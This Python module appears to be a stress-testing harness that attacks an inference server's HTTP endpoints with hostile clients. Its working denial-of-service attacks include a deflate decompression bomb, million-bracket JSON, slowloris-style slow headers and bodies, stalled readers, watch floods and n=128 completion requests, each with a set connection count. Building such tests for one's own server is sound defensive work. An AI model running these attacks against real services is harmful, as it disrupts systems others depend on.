"""What hostile and broken clients do: each attack is one connection, and says how it ended.

An outcome is the status that was answered, `closed` (the server ended the connection) or `left` (the client did);
`open` are those that were under way at the end.
"""

from __future__ import annotations

import asyncio
import json
import socket
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from functools import cache
from typing import Any

CHAT = "/v1/chat/completions"
WATCH = "/api/v1/events:watch"
BOMB_BYTES = 4 << 20
DEEP_BYTES = 1 << 20
MANY = 128
PATIENCE_SECONDS = 60.0
DRIP_SECONDS = 0.5
HELD_SECONDS = 5.0
UNREAD_SECONDS = 45.0


@dataclass(frozen=True)
class Target:
    """Whom to attack, from which address of this machine, and with which keys; an empty key is none."""

    host: str
    port: int
    source: str
    model: str
    inference: str = ""
    viewer: str = ""


Attack = Callable[[Target], Awaitable[str]]


@asynccontextmanager
async def connected(target: Target) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection, dropped at the end whatever is still on its way."""
    reader, writer = await asyncio.open_connection(target.host, target.port, local_addr=(target.source, 0))
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


def head(verb: str, path: str, key: str, *lines: str) -> bytes:
    """The head of a request, without its blank line."""
    authorization = [f"Authorization: Bearer {key}"] if key else []
    return "\r\n".join([f"{verb} {path} HTTP/1.1", "Host: x", *authorization, *lines, ""]).encode()


def whole(path: str, key: str, body: bytes, *lines: str) -> bytes:
    """A request with a body."""
    lines = (*lines, "Content-Type: application/json", f"Content-Length: {len(body)}")
    return head("POST", path, key, *lines) + b"\r\n" + body


def question(model: str, **changes: Any) -> bytes:
    """An inference call that asks for much."""
    body = {"model": model, "messages": [{"role": "user", "content": "Say 3"}], "ignore_eos": True, **changes}
    return json.dumps(body).encode()


async def status(reader: asyncio.StreamReader) -> str:
    """The status of the next answer."""
    line = await reader.readline()
    return line[9:12].decode() or "closed"


async def send(target: Target, request: bytes) -> str:
    """Send all of it, and read all of the answer."""
    async with connected(target) as (reader, writer):
        writer.write(request)
        answer = await status(reader)
        with suppress(TimeoutError):  # what the head promises, or as much as comes
            async with asyncio.timeout(PATIENCE_SECONDS):
                await _drop_answer(reader)
        return answer


async def _drop_answer(reader: asyncio.StreamReader) -> None:
    length = 0
    while (line := await reader.readline()).strip():
        name, _, value = line.partition(b":")
        length = int(value) if name.lower() == b"content-length" else length
    await reader.readexactly(length)


@cache
def bomb() -> bytes:
    """Zeros, a thousand times as many as it has bytes."""
    packer = zlib.compressobj(9)
    begin = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    packer.compress(bytes(1 << 20))
    block = packer.flush(zlib.Z_FULL_FLUSH)  # after a full flush it may be repeated
    return begin + block * (BOMB_BYTES // len(block))


async def throw_bomb(target: Target) -> str:
    """A packed body that is a thousand times as large."""
    return await send(target, whole(CHAT, target.inference, bomb(), "Content-Encoding: deflate"))


async def nest_deeply(target: Target) -> str:
    """JSON of a million brackets."""
    return await send(target, whole(CHAT, target.inference, b"[" * DEEP_BYTES))


async def nest_natively(target: Target) -> str:
    """The same at the native door, where the key's role does not even allow the call."""
    return await send(target, whole("/api/v1/jobs", target.viewer, b'{"job":' * (DEEP_BYTES // 8)))


async def drip(target: Target, begin: bytes, drop: bytes) -> str:
    """Send the beginning, then a drop at a time until the server has had enough."""
    async with connected(target) as (reader, writer):
        writer.write(begin)
        answered = asyncio.ensure_future(status(reader))
        try:
            while not (await asyncio.wait({answered}, timeout=DRIP_SECONDS))[0]:
                writer.write(drop)
            return await answered
        finally:
            answered.cancel()


async def drip_head(target: Target) -> str:
    """A head that never ends."""
    return await drip(target, head("GET", "/healthz", ""), b"a: b\r\n")


async def drip_body(target: Target) -> str:
    """A body that comes byte by byte."""
    return await drip(target, head("POST", CHAT, target.inference, f"Content-Length: {1 << 20}") + b"\r\n", b" ")


async def read_nothing(target: Target, request: bytes) -> str:
    """Ask for much and take none of it."""
    loop = asyncio.get_running_loop()
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.setblocking(False)
        connection.bind((target.source, 0))
        await loop.sock_connect(connection, (target.host, target.port))
        with suppress(TimeoutError):
            async with asyncio.timeout(UNREAD_SECONDS):
                await loop.sock_sendall(connection, request)
                while True:
                    await asyncio.sleep(DRIP_SECONDS)
                    with suppress(BlockingIOError):
                        connection.send(b"\r\n")  # an error once the server has closed
        return "left"


async def stall_pages(target: Target) -> str:
    """Hundreds of large documents on one connection."""
    return await read_nothing(target, (head("GET", "/openapi.json", "") + b"\r\n") * 200)


async def stall_stream(target: Target) -> str:
    """A stream of many choices."""
    asked = question(target.model, stream=True, n=16, max_tokens=200)
    return await read_nothing(target, whole(CHAT, target.inference, asked))


async def watch(target: Target) -> str:
    """One watch of a flood."""
    async with connected(target) as (reader, writer):
        writer.write(head("GET", WATCH, target.viewer) + b"\r\n")
        answer = await status(reader)
        with suppress(TimeoutError):
            async with asyncio.timeout(HELD_SECONDS):
                await reader.read()
        return answer


async def ask_for_many(target: Target) -> str:
    """One small call that is a hundred for the engine."""
    return await send(target, whole(CHAT, target.inference, question(target.model, n=MANY, max_tokens=32)))


ATTACKS: Mapping[str, tuple[Attack, int]] = {
    "bombs": (throw_bomb, 4),
    "deep JSON": (nest_deeply, 4),
    "deep JSON, native": (nest_natively, 4),
    "slow heads": (drip_head, 64),
    "slow bodies": (drip_body, 32),
    "stalled readers": (stall_pages, 16),
    "stalled streams": (stall_stream, 8),
    "watches": (watch, 96),
    f"n: {MANY}": (ask_for_many, 64),
}
"""By name: what is done, and on how many connections at once."""
